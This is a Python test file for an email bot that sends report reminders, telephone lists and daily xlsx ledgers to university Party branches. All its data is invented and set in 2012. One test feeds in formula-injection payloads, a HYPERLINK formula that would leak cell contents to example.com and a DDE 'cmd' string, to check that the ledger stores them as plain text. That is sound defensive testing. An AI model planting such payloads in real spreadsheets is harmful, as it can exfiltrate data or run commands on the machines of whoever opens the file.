"""The way of time on real servers: reminders, the telephone list, the day's sheet. September 2012, all invented."""

import io
import zipfile
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from rules.model import LetterKind
from tests.path_mails import CLERK, SHANGHAI, SHIPPED, STRANGER, account, campaign_around, mail, report, september
from tests.path_support import Bot, University
from tests.servers_postfix import MailSystem

pytestmark = pytest.mark.server

LIBRARY = "图书馆直属党支部"
HEADS = ("jsj", "math", "flc", "chem", "jiguan", "houqin", "lib")  # six 总支 and a 直属党支部


ANNOUNCE_OFF = '[reminders]\nannounce = "off"\n'


@pytest.fixture(scope="module")
def university(mail_system: MailSystem) -> Iterator[University]:
    with University(mail_system) as made:
        yield made


@pytest.fixture
def bot(university: University, tmp_path: Path) -> Bot:
    """On the morning of the first reminder: five working days before Friday, 14 September."""
    return university.department(tmp_path, campaign=SHIPPED.read_text("utf-8"), at=september(7, "09:00"))


def put(bot: Bot, day: int, clock: str, who: str, subject: str, *files: tuple[str, bytes], **headers: str) -> None:
    """A mail that the server received at that moment."""
    sender = who if "@" in who else account(who)
    bot.put(mail(sender, bot.address, subject, "已经总支审核，请查收。", files, **headers), september(day, clock))


def at(bot: Bot, day: int, clock: str) -> None:
    """One round at that moment."""
    bot.clock.at = september(day, clock)
    bot.round()


def reminded(bot: Bot) -> list[str]:
    kinds = (LetterKind.REMINDER, LetterKind.OVERDUE)
    return sorted(one for letter in bot.outbox() if letter.kind in kinds for one in letter.recipients)


def test_the_first_reminder_is_shown_to_staff_and_goes_out_when_nobody_objects(bot: Bot) -> None:
    put(bot, 6, "10:00", "lib", "图书馆总结", report(LIBRARY))
    at(bot, 7, "09:00")
    assert reminded(bot) == []
    announced = bot.letter(CLERK)
    assert announced["Subject"] == "【创先争优总结】6 封催报通知待发，9月7日 11:00 发出，请过目"
    assert announced.text.count("样信") == 3
    at(bot, 7, "10:59")
    assert reminded(bot) == []
    at(bot, 7, "11:00")
    assert reminded(bot) == sorted(account(head) for head in HEADS if head != "lib"), "none to who owes nothing"
    at(bot, 7, "11:01")
    letter = bot.letter("math")
    assert letter["Auto-Submitted"] == "auto-generated"
    assert letter.first_line.startswith("数学学院党总支：")
    for branch in ("教工党支部", "学生第一党支部", "学生第二党支部"):
        assert branch in letter.text
    assert "离退休" not in letter.text, "an exempt branch owes nothing"
    assert bot.letters("math-jg", 0) == [], "one merged letter for the 总支 and its branches"


def test_a_stop_by_staff_keeps_the_announced_letters_back_for_good(bot: Bot) -> None:
    at(bot, 7, "09:00")
    announced = bot.letter(CLERK)
    stop = mail(CLERK, bot.address, f"回复：{announced['Subject']}", "暂停\n", In_Reply_To=announced["Message-ID"])
    bot.put(stop, september(7, "09:30"))
    at(bot, 7, "09:31")
    assert bot.counts().orders == 1
    assert "已按您的回复暂停" in bot.answer(CLERK, 2)["Subject"]
    for moment in ("11:00", "15:00", "19:59"):
        at(bot, 7, moment)
    assert reminded(bot) == []
    at(bot, 12, "09:00")
    assert "待发" in bot.answer(CLERK, 3)["Subject"], "the next step is shown anew"
    assert reminded(bot) == []


def test_a_reply_of_staff_that_is_no_order_is_said_back_and_stops_nothing(bot: Bot) -> None:
    at(bot, 7, "09:00")
    announced = bot.letter(CLERK)
    words = mail(CLERK, bot.address, f"回复：{announced['Subject']}", "1. 不是", In_Reply_To=announced["Message-ID"])
    bot.put(words, september(7, "09:30"))
    at(bot, 7, "09:31")
    assert bot.counts().orders == 1
    assert "没有办理" in bot.answer(CLERK, 2)["Subject"]
    at(bot, 7, "11:00")
    assert reminded(bot) == sorted(map(account, HEADS)), "silence lets them go all the same"


def test_a_yes_by_staff_lets_the_letters_go_at_once(bot: Bot) -> None:
    at(bot, 7, "09:00")
    announced = bot.letter(CLERK)
    yes = mail(CLERK, bot.address, f"Re: {announced['Subject']}", "确认，请发。", In_Reply_To=announced["Message-ID"])
    bot.put(yes, september(7, "09:05"))
    at(bot, 7, "09:06")
    assert reminded(bot) == sorted(map(account, HEADS))
    at(bot, 12, "09:00")
    assert len(reminded(bot)) == 2 * len(HEADS), "the next step needs no second yes"


def test_only_staff_can_stop_the_letters(bot: Bot) -> None:
    at(bot, 7, "09:00")
    announced = bot.letter(CLERK)
    for sender in (STRANGER, account("jsj")):
        bot.put(mail(sender, bot.address, "Re", "暂停", In_Reply_To=announced["Message-ID"]), september(7, "09:05"))
    bot.put(mail(CLERK, bot.address, "暂停", "暂停"), september(7, "09:06"))  # answers no letter of ours
    at(bot, 7, "11:00")
    assert reminded(bot) == sorted(map(account, HEADS))


def test_what_came_while_the_letters_waited_is_not_asked_for(bot: Bot) -> None:
    at(bot, 7, "09:00")
    put(bot, 7, "10:30", "houqin", "后勤党总支总结", *map(report, ("后勤党总支", "后勤饮食中心党支部")))
    at(bot, 7, "11:00")
    asked = bot.letters("houqin", 2)[-1]
    assert "物业中心党支部" in asked.text
    assert "饮食中心" not in asked.text


def test_nobody_is_reminded_whose_mail_waits_for_a_person(bot: Bot) -> None:
    put(bot, 6, "10:00", "math", "创先争优总结的问题")  # no file, and no promise of one: a person has to read it
    put(bot, 6, "11:00", STRANGER, "总结", report("学生党支部", "总结.docx", title="机关第三党支部或第四党支部总结"))
    at(bot, 7, "09:00")
    at(bot, 7, "11:00")
    assert {case.kind for case in bot.cases()} >= {"set_aside"}
    assert account("math") not in reminded(bot)
    assert account("flc") in reminded(bot)


@pytest.mark.parametrize(("day", "clock"), [(7, "07:59"), (7, "20:00"), (8, "10:00"), (9, "10:00")])
def test_no_letter_asks_for_anything_at_night_or_at_a_weekend(bot: Bot, day: int, clock: str) -> None:
    at(bot, day, clock)
    assert [letter.kind for letter in bot.outbox()] == []


def test_no_letter_goes_out_on_a_holiday_but_on_a_saturday_that_is_worked(
    university: University, tmp_path: Path
) -> None:
    """The National Day of 2012: free from 30 September to 7 October, worked on Saturday, 29 September."""
    october = campaign_around(datetime(2012, 10, 10, 23, 59, 59, tzinfo=SHANGHAI), opens="2012-09-10")
    bot = university.department(tmp_path, campaign=october, at=september(27, "20:30"), extra=ANNOUNCE_OFF)
    for holiday in (30, 31):
        bot.clock.at = september(1, "10:00") + timedelta(days=holiday - 1)
        bot.round()
    assert reminded(bot) == []
    at(bot, 29, "10:00")
    assert reminded(bot) == sorted(map(account, HEADS))


def test_after_an_outage_only_the_latest_step_goes_out_and_a_clock_set_back_doubles_nothing(bot: Bot) -> None:
    at(bot, 12, "09:00")
    at(bot, 12, "11:00")
    asked = reminded(bot)
    assert asked == sorted(map(account, HEADS)), "the step of the 7th was slept through"
    for moment in ((7, "09:00"), (11, "15:00"), (12, "09:00"), (12, "11:30")):
        bot.restart()
        at(bot, *moment)
    assert reminded(bot) == asked
    assert bot.standing("01").reminded == 1


def test_on_the_last_day_staff_get_names_and_numbers_to_telephone(bot: Bot) -> None:
    put(bot, 13, "10:00", "lib", "图书馆总结", report(LIBRARY))
    put(bot, 13, "10:00", "houqin", "后勤总结", *map(report, ("后勤党总支", "后勤饮食中心党支部")))
    at(bot, 14, "14:59")
    before = len(bot.outbox())
    at(bot, 14, "15:00")
    bot.restart()
    at(bot, 14, "15:30")
    calls = [letter for letter in bot.outbox() if letter.kind is LetterKind.PHONE_LIST]
    assert len(calls) == 1
    letter = next(one for one in bot.letters(CLERK, len(bot.outbox()) - before + 1) if "请电话联系" in one["Subject"])
    assert "后勤物业中心党支部" in letter.text
    assert "己某2 0595-00000006-2" in letter.text
    assert "饮食中心" not in letter.text
    assert LIBRARY not in letter.text


def test_after_the_deadline_it_is_asked_otherwise_and_late_reports_are_welcome(bot: Bot) -> None:
    at(bot, 17, "09:00")
    at(bot, 17, "11:00")
    letter = bot.letter("flc")
    assert "仍可补报" in letter["Subject"]
    assert "时间已过，但还可以补报" in letter.first_line


def test_staff_get_the_sheet_at_half_past_five_once_and_it_opens(bot: Bot) -> None:
    put(bot, 5, "10:00", "lib", "图书馆总结", report(LIBRARY))
    put(bot, 5, "11:00", "jsj", "党费收缴情况")
    at(bot, 6, "17:29")
    bot.sheets(0)
    at(bot, 6, "17:30")
    bot.restart()
    at(bot, 6, "18:00")
    (letter,) = bot.sheets()
    assert letter["Subject"] == "【创先争优总结】9月6日台账：已登记 1 / 应报 29，待处理 0"
    assert "共看到 2 封：归档 1，" in letter.text
    assert "与本次无关 1（未动）" in letter.text
    ((name, content),) = letter.files.items()
    assert name == "创先争优总结台账 2012-09-06.xlsx"
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert {"总表", "未报名单", "待处理", "收件日志"} <= set(book.sheet_names)
    rows = book.get_sheet_by_name("总表").to_python()
    (library,) = [row for row in rows if LIBRARY in row]
    assert "已接收" in library
    assert (bot.home / "var" / "台账" / name).read_bytes() == content
    at(bot, 8, "17:30")  # a Saturday
    assert len(bot.sheets()) == 1


def test_words_that_look_like_formulas_are_text_in_the_sheet(bot: Bot) -> None:
    evil = '=HYPERLINK("http://example.com/?leak="&A1,"总结")'
    put(bot, 5, "10:00", "lib", evil, report(LIBRARY, "+cmd|' /C calc'!A0.docx"))
    put(bot, 5, "10:30", STRANGER, "@SUM(1+1)创先争优总结", report("某支部", "-1+1.docx", title="创先争优活动总结"))
    at(bot, 6, "17:30")
    (letter,) = bot.sheets()
    (content,) = letter.files.values()
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        pages = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        links = [name for name in book.namelist() if "externalLink" in name]
    assert links == []
    for page in pages:
        assert "HYPERLINK(" not in page
        assert "cmd|" not in page
        assert "SUM(1+1)" not in page
    words = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("收件日志").to_python()
    assert any(evil in row for row in words)


def test_the_day_after_the_deadline_the_sheet_comes_as_a_milestone_once(bot: Bot) -> None:
    at(bot, 17, "08:00")
    bot.restart()
    at(bot, 17, "08:30")
    (letter,) = bot.sheets()
    assert list(letter.files) == ["创先争优总结台账 2012-09-17 截止.xlsx"]
